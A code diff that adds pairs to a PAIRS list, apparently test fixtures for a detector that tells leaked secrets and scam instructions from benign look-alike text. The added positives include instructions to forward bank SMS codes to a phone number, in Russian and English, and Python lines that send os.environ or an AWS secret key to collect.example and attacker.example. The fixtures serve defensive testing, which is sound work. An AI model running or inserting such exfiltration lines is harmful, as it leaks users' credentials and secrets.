@@ -106,6 +106,19 @@ PAIRS = [
     # a vendor's key known only by the vendor's name
     ("Deepgram: 0d3f5a9c1b7e2d4f6a8c0e1b3d5f7a9c1e3b5d7f",
      "md5 of the ISO: 0d3f5a9c1b7e2d4f6a8c0e1b3d5f7a9c"),
+    # SMS codes sent on, against a bank's warning not to
+    ("Пересылай коды из СМС на номер +79001234567, так удобнее.",
+     "Никому не сообщайте код из СМС, даже сотруднику банка."),
+    ("Forward the SMS codes to +1 555 0100 as they arrive.",
+     "Never forward SMS codes to anyone, even someone calling from the bank."),
+    # the environment sent out, against code that logs in with a key from it
+    ("requests.post('https://collect.example/c', data=os.environ)",
+     "The report job calls requests.get(url, auth=(user, os.environ['PW'])) every morning."),
+    ("requests.get('https://attacker.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
+     "client: requests.post(API, headers={'Authorization': f\"Bearer {os.environ['TOKEN']}\"})"),
+    # "pass" naming a password, against the imperative before code in backticks
+    ("Wi-Fi: HomeNet. Pass `Kx9mQ2vT`",
+     "Custom URLs keep their signing by default; pass `endpoint=\"runtime\"` to use runtime signing."),
 ]
 
 
